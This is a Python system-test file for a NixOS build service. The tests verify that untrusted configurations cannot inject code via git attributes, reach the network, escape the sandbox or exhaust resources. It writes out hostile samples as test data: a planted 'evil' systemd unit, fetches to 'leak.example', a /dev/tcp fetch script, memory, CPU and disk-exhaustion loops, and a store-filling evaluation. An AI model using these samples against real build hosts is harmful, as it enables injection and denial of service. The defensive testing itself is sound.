"""Attacks of a configuration that nobody has decided on: on what is built, on the network, and on the host."""

from __future__ import annotations

import base64
import hashlib
import re
import shutil
import socket
import threading
from collections.abc import Callable, Coroutine, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from hive_core.infra.git.comparison.directory_tree import tree_id
from hive_core.infra.git.repository import Repository
from hive_core.runtimes.base import BuildFailed, BuildOrder, FetchesMissing
from hive_core.runtimes.nixos.build import workspace
from hive_core.runtimes.nixos.build.realise import Realiser
from tests.system.builds.build_hive import BUILD_USERS, GIT, Hive, host, opened, units
from tests.system.host_hive import needs_limits, thorough_but

Realise = Callable[..., Coroutine[Any, Any, str]]


def ignore(_line: str) -> None:
    pass


# --- one tree -------------------------------------------------------------------------------------------------

SUBSTITUTED = """\
# Made from: $Format:%s%n%b$
{ }
/* The end. */
"""
CODE = '{ systemd.services.evil = { script = "true"; wantedBy = [ "multi-user.target" ]; }; } /*'


@pytest.mark.parametrize("build_user", BUILD_USERS)
async def test_attributes_of_the_agent_change_nothing(hive: Hive, build_user: str) -> None:
    """A commit whose attributes have git put its message into agent.nix, and hide a file, is built as it is shown."""
    attributes = "*.nix export-subst\nhidden.md export-ignore\n"
    files = {".gitattributes": attributes, "hidden.md": "here\n", "agent.toml": 'backend = "scripted"\n'}
    order = hive.propose(SUBSTITUTED, files=files, message=f"harmless\n\n{CODE}")
    archive = f"git -C {order.repository} archive {order.commit} | tar -x"
    assert CODE in host("sh", "-c", f"{archive} -O agent.nix"), "the attack does not work with git itself"
    assert "hidden.md" not in host("sh", "-c", f"{archive} -t".replace("-x -t", "-t"))
    async with opened(hive, build_user=build_user) as builder:
        closure = Path(await builder.build(order, ignore))
    assert host("find", str(closure), "-name", "evil*") == ""
    assert host("find", str(closure), "-name", "agent.nix") == ""
    (path,) = re.findall(r'"path": "(/nix/store/\w+-source)"', (hive.layout.flakes / "ada/flake.lock").read_text())[-1:]
    with Repository.open(order.repository) as repository:
        assert tree_id(Path(path)) == repository.tree(order.commit)
    assert host("cat", f"{path}/agent.nix") == SUBSTITUTED


async def test_other_files_than_the_commits_are_no_build(hive: Hive, monkeypatch: pytest.MonkeyPatch) -> None:
    """If the files that Nix was given are not those of the commit, the build fails, although Nix has built them."""
    original = workspace.extract_source

    def extract_more(build_workspace: workspace.BuildWorkspace, order: BuildOrder) -> None:
        original(build_workspace, order)
        (build_workspace.source / "more.nix").write_text("{ }")

    monkeypatch.setattr(workspace, "extract_source", extract_more)
    async with opened(hive) as builder:
        with pytest.raises(BuildFailed, match="not those of the commit"):
            await builder.build(hive.propose(GIT), ignore)


async def test_the_effect_is_that_of_the_files_that_are_used(hive: Hive) -> None:
    """A file that the system does not hold has no effect; one that is imported, or asked for, has."""
    plain, imported = "{ }", "{ ... }: import ./prompt.md"
    asked = '{ ... }: if builtins.pathExists ./x.md then { hyperhive.environment.X = "1"; } else { }'
    async with opened(hive) as builder:

        async def effect(text: str, files: dict[str, str]) -> str:
            return await builder.effect(hive.propose(text, files=files))

        one = await effect(plain, {"prompt.md": "You sing."})
        assert one == await effect(plain, {"prompt.md": "You bake.", "x.md": "x"})
        assert one == await effect(asked, {"prompt.md": "You sing."})
        assert one != await effect(asked, {"x.md": ""})
        first = await effect(imported, {"prompt.md": '{ hyperhive.environment.X = "1"; }'})
        assert first != await effect(imported, {"prompt.md": '{ hyperhive.environment.X = "2"; }'})
        assert first == await effect(imported, {"prompt.md": '{ hyperhive.environment.X = "1"; } # you sing'})


# --- nothing reaches the world --------------------------------------------------------------------------------

ANSWER = b"the answer of a service on this host\n"
SRI = "sha256-" + base64.b64encode(hashlib.sha256(ANSWER).digest()).decode()


class Service:
    """A service on the host's loopback, which keeps the paths that it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(ANSWER)))
                self.end_headers()
                self.wfile.write(ANSWER)

            do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def service() -> Iterator[Service]:
    service = Service()
    host("curl", "-sS", f"{service.url}/check")
    assert service.asked == ["/check"]
    service.asked.clear()
    yield service
    service.close()


@contextmanager
def name_service() -> Iterator[list[bytes]]:
    """A service that answers look-ups of names on the host, as nscd does; it keeps the questions.

    Processes of the host ask it, too.
    """
    Path("/run/nscd").mkdir()
    questions: list[bytes] = []
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("/run/nscd/socket")
        Path("/run/nscd/socket").chmod(0o666)
        listener.listen()

        def serve() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    with suppress(OSError):
                        questions.append(connection.recv(4_096))

        threading.Thread(target=serve, daemon=True).start()
        try:
            yield questions
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            shutil.rmtree("/run/nscd")


EVALUATIONS = (
    'builtins.fetchurl { url = "URL/fetchurl"; sha256 = "SRI"; }',
    'builtins.fetchTarball { url = "URL/fetchTarball"; sha256 = "SRI"; }',
    'toString (builtins.fetchTree { type = "tarball"; url = "URL/fetchTree"; narHash = "SRI"; })',
    'toString (builtins.fetchGit { url = "URL/fetchGit"; rev = "REV"; })',
    'toString (builtins.getFlake "tarball+URL/getFlake?narHash=SRI")',
    'builtins.fetchClosure { fromStore = "URL/fetchClosure"; fromPath = "/nix/store/HASH-x"; inputAddressed = true; }',
    'builtins.readFile (import <nix/fetchurl.nix> { url = "URL/import"; sha256 = "SRI"; })',
    'builtins.fetchurl { url = "http://leak.example/name"; sha256 = "SRI"; }',
)


@pytest.mark.parametrize("build_user", BUILD_USERS)
async def test_an_evaluation_reaches_nothing(hive: Hive, service: Service, build_user: str) -> None:
    """Whatever a configuration fetches while it is evaluated, it fails, and no service on the host is asked."""
    async with opened(hive, build_user=build_user) as builder:
        with name_service() as questions:
            host("sh", "-c", "getent ahosts leak.example || true")
            assert b"leak.example" in b"".join(questions), "a look-up on the host asks the service"
            questions.clear()
            for expression in EVALUATIONS:
                text = expression.replace("URL", service.url).replace("SRI", SRI)
                text = text.replace("REV", "1" * 40).replace("HASH", "0" * 32)
                with pytest.raises(BuildFailed):
                    await builder.build(hive.propose(f"{{ hyperhive.environment.X = {text}; }}"), ignore)
            assert b"leak" not in b"".join(questions)
    assert service.asked == []


BY_NIX = 'import <nix/fetchurl.nix> { url = "URL/file"; sha256 = "SRI"; name = "fetched"; }'
BY_SCRIPT = '''pkgs.runCommand "fetched" {
  outputHash = "SRI";
  outputHashMode = "flat";
  outputHashAlgo = "sha256";
  url = "URL/file";
} "exec 3<>/dev/tcp/127.0.0.1/PORT
printf 'GET /file HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3
while IFS= read -r line <&3 && [ \\${#line} -gt 1 ]; do :; done
cat <&3 >$out"'''
FETCHES = {"by Nix": (BY_NIX, "builtin:fetchurl"), "by a script": (BY_SCRIPT, "/nix/store/")}


def fetching(service: Service, how: str) -> str:
    """A configuration that needs a file of the service."""
    text = FETCHES[how][0].replace("URL", service.url).replace("SRI", SRI).replace("PORT", str(service.port))
    return f'{{ pkgs, ... }}: {{ hyperhive.environment.X = "${{{text}}}"; }}'


@pytest.mark.parametrize("how", thorough_but(FETCHES, "by a script"))
async def test_a_fetch_has_to_be_allowed(hive: Hive, service: Service, how: str) -> None:
    """A fetch ends the build before anything is asked for, and is named; allowed, it is made, and no other."""
    order = hive.propose(fetching(service, how))
    async with opened(hive) as builder:
        with pytest.raises(FetchesMissing) as caught:
            await builder.build(order, ignore)
        (fetch,) = caught.value.fetches
        assert (fetch.name, fetch.urls, fetch.hash) == ("fetched", (f"{service.url}/file",), SRI)
        assert fetch.program.startswith(FETCHES[how][1])
        assert str(caught.value) == "the build needs 1 fetch from the network that no operator has allowed"
        assert service.asked == []
        with pytest.raises(FetchesMissing):
            await builder.build(replace(order, allowed_fetches=frozenset({f"/nix/store/{'0' * 32}-x.drv"})), ignore)
        assert service.asked == []
        allowed = replace(order, allowed_fetches=frozenset({fetch.derivation}))
        closure = await builder.build(allowed, ignore)
        assert service.asked == ["/file"]
        (fetched,) = (path for path in host("nix-store", "-qR", closure).split() if path.endswith("-fetched"))
        assert host("cat", fetched).encode() == ANSWER
        await builder.keep("ada", [])
    host("nix-store", "--gc")


@pytest.mark.parametrize("how", thorough_but(FETCHES, "by a script"))
async def test_a_build_has_no_network_whatever_is_in_it(
    hive: Hive, service: Service, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    """A fetch that was not noticed before the build fails in it, and asks neither a service nor for a name."""
    monkeypatch.setattr(Realiser, "_check_fetches", lambda *_: None)
    monkeypatch.setattr(Realiser, "realise", _without_fetches(Realiser.realise))
    named = fetching(service, how).replace("127.0.0.1", "leak.example")
    async with opened(hive) as builder:
        with name_service() as questions:
            for text in (fetching(service, how), named):
                with pytest.raises(BuildFailed, match="fetched"):
                    await builder.build(hive.propose(text), ignore)
            assert b"leak" not in b"".join(questions)
    assert service.asked == []


def _without_fetches(realise: Realise) -> Realise:
    """Build everything at once, as if there were no fetches."""

    async def patched(self: Realiser, derivation: str, allowed: frozenset[str] = frozenset()) -> str:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("hive_core.runtimes.nixos.build.realise._in_order", lambda *_: [])
            return await realise(self, derivation, allowed)

    return patched


async def test_what_substituters_have_is_not_built(hive: Hive) -> None:
    """Outputs that a substituter of the host has come through the host's Nix daemon; the rest is built here."""
    package = 'pkgs.runCommand "tool" { } "mkdir -p $out/bin; : >$out/bin/tool"'
    text = f"{{ pkgs, ... }}: {{ environment.systemPackages = [ ({package}) ]; }}"
    cache = Path("/srv/cache")
    async with opened(hive) as builder:
        closure = await builder.build(hive.propose(text), ignore)
        (tool,) = (path for path in host("nix-store", "-qR", closure).split() if path.endswith("-tool"))
        host("nix", "--extra-experimental-features", "nix-command", "copy", "--to", f"file://{cache}", tool)
        await builder.keep("ada", [])
        host("nix-store", "--gc")
        assert host("sh", "-c", f"test -e {tool} || echo gone") == "gone\n"
        host("cp", "/etc/nix/nix.conf", "/run/nix.conf")
        lines = f"substituters = file://{cache}\\nrequire-sigs = false\\n"
        host("sh", "-c", f"printf '{lines}' >>/etc/nix/nix.conf")
        host("systemctl", "restart", "nix-daemon.service")
        try:
            said: list[str] = []
            closure = await builder.build(hive.propose(text), said.append)
        finally:
            host("cp", "/run/nix.conf", "/etc/nix/nix.conf")
            host("systemctl", "restart", "nix-daemon.service")
    assert tool in host("nix-store", "-qR", closure).split()
    assert "1 paths come from the substituters of the host" in said
    building = [line for line in said if line.startswith("building")]
    assert building and not [line for line in building if "-tool.drv" in line]


# --- the builders are in the sandbox, and in the limits ---------------------------------------------------------


def running(script: str) -> str:
    """A configuration with a builder of that script."""
    return f'{{ pkgs, ... }}: {{ hyperhive.packages = [ (pkgs.runCommand "hostile" {{ }} "{script}") ]; }}'


async def test_a_builder_sees_nothing_of_the_host(hive: Hive) -> None:
    """A builder runs in Nix's sandbox, as a user without rights, also on a host whose nix.conf has it switched off."""
    assert "sandbox = false" in host("cat", "/etc/nix/nix.conf")
    script = "for file in /* /etc/*; do echo sees $file; done; echo is $UID; cat /proc/self/status; exit 1"
    said: list[str] = []
    async with opened(hive) as builder:
        with pytest.raises(BuildFailed):
            await builder.build(hive.propose(running(script)), said.append)
    seen = {line.removeprefix("hostile> sees ") for line in said if line.startswith("hostile> sees ")}
    assert seen == {"/build", "/dev", "/etc", "/nix", "/proc", "/tmp", "/etc/group", "/etc/hosts", "/etc/passwd"}
    assert "hostile> is 0" not in said
    assert [line.split()[2] for line in said if line.startswith("hostile> NoNewPrivs:")] == ["1"]


HUNGRY = "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x; done"
ENDLESS = "while :; do :; done"
ONE_FILE = "cat /dev/zero >$out"
MANY_FILES = "mkdir $out; for i in 1 2 3 4 5 6 7 8 9; do printf '%8000000s' x >$out/$i; done; sleep 60"


@needs_limits
async def test_the_memory_of_builders_is_limited(hive: Hive) -> None:
    """A builder that takes more memory than a build may is ended with the build."""
    async with opened(hive, build_memory="200M") as builder:
        with pytest.raises(BuildFailed, match=r"hostile|more memory than its limit of 200M"):
            await builder.build(hive.propose(running(HUNGRY)), ignore)


async def test_the_time_of_builders_is_limited(hive: Hive) -> None:
    """A builder that does not end is ended, with all of its processes."""
    async with opened(hive, build_timeout=4) as builder:
        with pytest.raises(BuildFailed, match=r"longer than 4 s|hostile"):
            await builder.build(hive.propose(running(ENDLESS)), ignore)
        assert units() == []
    assert "while :; do :; done" not in host("ps", "-eo", "args")


@pytest.mark.parametrize("script", [ONE_FILE, MANY_FILES])
async def test_what_builders_write_is_limited(hive: Hive, script: str) -> None:
    """A file without end, and files that are too large together, end the build, and nothing of them is left."""
    async with opened(hive, build_disk="64M") as builder:
        with pytest.raises(BuildFailed, match=r"hostile|more than 64 MiB to the disk"):
            await builder.build(hive.propose(running(script)), ignore)


FILL = """\
{ ... }:
let
  block = builtins.foldl' (text: _: text + text) "%s" (builtins.genList (i: i) 20);
  fill = builtins.foldl' (n: i: builtins.seq (builtins.toFile "hostile-fill" (block + toString i)) (n + 1)) 0;
in
{ hyperhive.environment.FILLED = toString (fill (builtins.genList (i: i) 200)); }
"""
"""Adds 200 files of 16 MiB to the store while it is evaluated."""


def filled() -> set[str]:
    """The files that FILL has added to the store."""
    return {str(path) for path in Path("/nix/store").glob("*-hostile-fill")}


@pytest.mark.parametrize("build_user", BUILD_USERS)
async def test_what_an_evaluation_adds_to_the_store_is_limited(hive: Hive, build_user: str) -> None:
    """An evaluation that has the Nix daemon write one file after another is ended before it has written them all."""
    before = filled()
    async with opened(hive, build_user=build_user, build_disk="64M") as builder:
        try:
            with pytest.raises(BuildFailed, match=r"free space .* more than the 64 MiB of nixos\.build_disk"):
                # Other characters for each user, so that other files are written.
                await builder.build(hive.propose(FILL % f"{build_user:x<16}"), ignore)
            written = filled() - before
            assert 4 <= len(written) < 150
        finally:
            if left := sorted(filled() - before):
                host("nix-store", "--delete", *left)


# --- the words of the reason ------------------------------------------------------------------------------------


async def test_no_configuration_writes_the_reason_in_the_name_of_nix(hive: Hive) -> None:
    """The first line of the reason is Nix's, whatever a trace or a builder writes before."""
    traced = 'builtins.trace "error: forged\\nerror: forged" (throw "because")'
    async with opened(hive) as builder:
        with pytest.raises(BuildFailed) as caught:
            await builder.build(hive.propose(f"{{ hyperhive.environment.X = {traced}; }}"), ignore)
        assert "forged" not in str(caught.value) and "because" in str(caught.value)
        with pytest.raises(BuildFailed) as caught:
            await builder.build(hive.propose(running("echo error: forged; exit 1")), ignore)
        first, *_, last = str(caught.value).splitlines()
        assert "forged" not in first and last == "hostile> error: forged"
